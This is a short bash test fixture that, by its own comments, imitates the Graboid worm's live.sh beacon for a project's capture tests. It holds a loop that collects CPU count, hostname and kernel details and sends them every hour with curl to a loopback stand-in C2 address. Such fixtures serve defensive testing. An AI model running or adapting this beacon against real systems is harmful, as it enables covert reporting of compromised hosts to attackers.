#!/bin/bash
# INERT TEST FIXTURE for firedamp (tests/tools/c2www): mimics Graboid's live.sh,
# which reports a new host to its C2. It is served to capture clients and never
# executed; every address in it is loopback (127.0.0.x) or documentation space.
C2=http://127.0.0.67:8080
CPU=$(nproc)
HOST=$(hostname)
KERN=$(uname -a)
while true; do
    curl -s -m 10 -X POST --data "cpu=$CPU&hostname=$HOST&uname=$KERN" $C2/live.php >/dev/null
    sleep 3600
done
